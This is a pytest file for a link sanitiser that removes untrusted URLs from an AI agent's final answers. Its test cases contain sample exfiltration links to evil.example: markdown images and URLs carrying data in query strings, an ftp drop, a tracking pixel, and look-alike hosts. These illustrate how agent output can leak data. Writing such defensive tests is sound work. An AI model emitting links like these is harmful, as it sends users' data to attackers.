"""Links in a final answer: kept for allowed hosts and hosts the task names, taken out otherwise."""

from __future__ import annotations

import pytest

from dayshift.agents.links import keep_trusted_links


@pytest.mark.parametrize(("answer", "expected"), [
    ("Total 1.98. Receipt: ![receipt](https://img.evil.example/r.png?inv=1&data=Ada)", "Total 1.98. Receipt: [image removed]"),
    ("Total 1.98, see [the receipt](https://evil.example/r?d=1).", "Total 1.98, see the receipt."),
    ("The image is at <https://evil.example/r.png?data=>.", "The image is at [link removed]."),
    ("Details: https://evil.example/x?d=secret.", "Details: [link removed]."),
    ("Upload to ftp://evil.example/drop now", "Upload to [link removed] now"),
    ("[](https://evil.example/pixel)", "[link removed]"),
])
def test_links_to_other_hosts_are_taken_out(answer: str, expected: str) -> None:
    trusted = keep_trusted_links(answer, allowed=["www.nist.gov"], task="What was the total of invoice 1?")
    assert trusted.text == expected
    assert len(trusted.removed) == 1 and "evil.example" in trusted.removed[0]


def test_allowed_hosts_and_hosts_the_task_names_stay() -> None:
    answer = ("See [SP 800-63B](https://pages.nist.gov/800-63-3/sp800-63b.html), https://www.nist.gov/cyberframework "
              "and https://wiki.example.org/Refunds.")
    trusted = keep_trusted_links(answer, allowed=["*.nist.gov"], task="What does https://wiki.example.org/Refunds say?")
    assert trusted.text == answer and trusted.removed == []


def test_a_look_alike_host_is_not_an_allowed_one() -> None:
    trusted = keep_trusted_links("https://www.nist.gov.evil.example/a and https://nist.gov@evil.example/b",
                                 allowed=["www.nist.gov", "nist.gov"], task="")
    assert trusted.text == "[link removed] and [link removed]" and len(trusted.removed) == 2
